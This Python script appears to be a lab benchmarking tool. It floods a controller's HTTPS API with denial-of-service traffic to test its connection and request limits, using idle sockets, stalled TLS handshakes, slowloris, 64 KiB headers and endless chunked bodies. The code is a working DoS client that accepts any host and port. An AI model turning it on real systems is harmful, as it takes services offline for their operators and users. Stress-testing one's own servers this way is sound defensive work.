#!/usr/bin/env python3
"""Resource-exhaustion clients against the controller's HTTPS API, for scripts/bench-attack.sh.

    attack.py MODE --host H --port P [--conns N] [--sources A,B,...] [--seconds S]

Modes (docs/security.md "Limits" names the limit each one meets):
  idle        TCP connections that never send a byte (no ClientHello)
  handshake   TLS handshakes started (ClientHello sent) and never finished
  slowloris   TLS connections sending a request's headers one byte a second
  headers     TLS requests with 64 KiB of headers, one after another on each connection
  chunked     TLS POSTs with an endless chunked body, 1 KiB every 10 ms

Each connection is bound to one of --sources in turn (addresses of the attacker's namespace),
and re-opened when the server closes it, until --seconds pass. Prints one line of counts
(opened, closed by the server) at the end. Only for the lab: it attacks what it is told to.
"""
import argparse
import asyncio
import signal
import socket
import ssl


def tls_context():
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    return ctx


class Counts:
    opened = 0
    closed = 0


async def raw_socket(args, source):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setblocking(False)
    sock.bind((source, 0))
    await asyncio.get_running_loop().sock_connect(sock, (args.host, args.port))
    Counts.opened += 1
    return sock


async def connect(args, source, tls):
    sock = await raw_socket(args, source)
    if not tls:
        return await asyncio.open_connection(sock=sock)
    return await asyncio.open_connection(sock=sock, ssl=tls_context(), server_hostname="ctl.lab")


async def idle(args, source):
    reader, writer = await connect(args, source, tls=False)
    await reader.read(1)  # returns when the server closes it
    writer.close()


async def handshake(args, source):
    # A raw ClientHello from a memory BIO: the server answers, we never reply.
    sock = await raw_socket(args, source)
    loop = asyncio.get_running_loop()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = tls_context().wrap_bio(incoming, outgoing, server_hostname="ctl.lab")
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    await loop.sock_sendall(sock, outgoing.read())
    while await loop.sock_recv(sock, 65536):
        pass
    sock.close()


async def slowloris(args, source):
    reader, writer = await connect(args, source, tls=True)
    request = b"POST /v1/isolate HTTP/1.1\r\nHost: ctl.lab\r\nX-Slow: " + b"a" * 4096
    for byte in request:
        writer.write(bytes([byte]))
        await writer.drain()
        await asyncio.sleep(1)
    writer.close()


async def headers(args, source):
    reader, writer = await connect(args, source, tls=True)
    big = b"".join(b"X-Pad-%d: %s\r\n" % (i, b"b" * 1000) for i in range(64))
    while True:
        writer.write(b"GET /v1/status HTTP/1.1\r\nHost: ctl.lab\r\n" + big + b"\r\n")
        await writer.drain()
        if not await reader.read(65536):
            break
    writer.close()


async def chunked(args, source):
    reader, writer = await connect(args, source, tls=True)
    writer.write(b"POST /v1/isolate HTTP/1.1\r\nHost: ctl.lab\r\nAuthorization: Bearer x\r\n"
                 b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
    chunk = b"400\r\n" + b" " * 1024 + b"\r\n"
    while True:
        writer.write(chunk)
        await writer.drain()
        await asyncio.sleep(0.01)


async def keep_one(args, source, mode):
    while True:
        try:
            await mode(args, source)
        except (OSError, ssl.SSLError, asyncio.IncompleteReadError, ConnectionError):
            pass
        Counts.closed += 1
        await asyncio.sleep(0.05)


async def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("mode", choices=["idle", "handshake", "slowloris", "headers", "chunked"])
    parser.add_argument("--host", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--conns", type=int, default=200)
    parser.add_argument("--sources", default="0.0.0.0")
    parser.add_argument("--seconds", type=float, default=30)
    args = parser.parse_args()
    mode = globals()[args.mode]
    sources = args.sources.split(",")
    tasks = [asyncio.create_task(keep_one(args, sources[i % len(sources)], mode))
             for i in range(args.conns)]
    stop = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGINT, stop.set)
    try:
        await asyncio.wait_for(stop.wait(), args.seconds)
    except asyncio.TimeoutError:
        pass
    for task in tasks:
        task.cancel()
    print(f"{args.mode}: {args.conns} clients, {Counts.opened} connections opened, "
          f"{Counts.closed} ended (the server closed or refused them)", flush=True)


if __name__ == "__main__":
    asyncio.run(main())
